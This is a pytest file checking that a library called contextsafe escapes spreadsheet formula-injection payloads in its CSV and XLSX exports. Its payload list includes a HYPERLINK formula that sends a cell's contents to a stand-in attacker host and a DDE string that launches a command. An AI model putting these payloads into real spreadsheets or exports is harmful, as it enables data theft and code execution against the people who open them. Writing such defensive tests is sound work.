"""No cell contextsafe writes can run as a formula in Excel or LibreOffice."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook

from contextsafe.exports import safe_cell, write_csv, write_xlsx

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_triggers_are_prefixed(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-12.5", "+44", "Camden", "", "O'Brien", "1e-3"])
def test_ordinary_values_are_untouched(value: str) -> None:
    assert safe_cell(value) == value


def test_csv_export_escapes_every_payload(tmp_path: Path) -> None:
    frame = pl.DataFrame({"note": PAYLOADS, "n": list(range(len(PAYLOADS)))})
    path = write_csv(tmp_path / "out.csv", frame)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        notes = [row["note"] for row in csv.DictReader(handle)]
    assert all(note.startswith("'") for note in notes)
    rows_path = write_csv(tmp_path / "rows.csv", header=["note"], rows=[[p] for p in PAYLOADS])
    with rows_path.open(encoding="utf-8-sig", newline="") as handle:
        assert all(r["note"].startswith("'") for r in csv.DictReader(handle))


def test_xlsx_export_stores_strings_never_formulas(tmp_path: Path) -> None:
    frame = pl.DataFrame({"note": PAYLOADS, "n": list(range(len(PAYLOADS)))})
    path = write_xlsx(tmp_path / "out.xlsx", frame)
    sheet = load_workbook(path).active
    cells = [sheet.cell(row, 1) for row in range(2, len(PAYLOADS) + 2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert all(str(cell.value).startswith("'") for cell in cells)
    assert sheet.cell(2, 2).value == 0  # numbers stay numbers
